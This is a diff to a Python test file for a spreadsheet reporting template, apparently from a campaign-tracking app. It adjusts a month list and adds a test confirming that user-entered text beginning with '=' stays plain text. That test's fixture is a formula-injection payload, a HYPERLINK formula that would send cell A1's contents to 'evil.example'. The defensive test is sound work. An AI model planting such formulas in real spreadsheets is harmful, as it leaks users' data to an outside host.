@@ -65,7 +65,8 @@ def test_the_lists_are_the_campaigns_and_the_users(world):
     found = lists(workbook)
     assert found["Campaign"] == [world.sn_campaign.code]
     assert found["Organisation"] == ["IOM Senegal"]
-    assert found["Month"] == ["2026-01", "2026-02", "2026-03", "2026-04", "2026-05", "2026-06"]
+    # Past months only: June (TODAY's month) is still running and the rules refuse it.
+    assert found["Month"] == ["2026-01", "2026-02", "2026-03", "2026-04", "2026-05"]
     assert found["Region"] == ["SN-DK · Dakar", "SN-TH · Thiès"]
     assert found["Channel"] == ["radio · Radio", "sessions · Community sessions"]
     assert found["Material"] == [f"{world.poster.uuid} · {world.poster.title}"]
@@ -115,3 +116,17 @@ def test_a_period_outside_the_campaign_has_no_months_and_no_rows(world):
     assert lists(workbook)["Month"] == []
     assert [row[1] for row in workbook["Reach"].iter_rows(min_row=2, values_only=True)
             if row[1]] == []  # fmt: skip
+
+
+def test_text_people_typed_is_never_a_live_formula_in_the_template(world):
+    """An organisation's name or a report's notes starting with ``=`` stay text (issue 10, 10)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    hostile = OrganisationFactory(name=formula, countries=[world.senegal])
+    hostile.members.add(world.sn_reporter)
+    reach_report(world.sn_campaign, world.iom_senegal, world.dakar, world.radio, MARCH,
+                 {world.broadcasts: 4}, notes=formula)  # fmt: skip
+    _workbook, content = template(world, world.sn_reporter)
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert any(cell.value == formula for cell in cells)  # the text is there...
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # ...never a formula
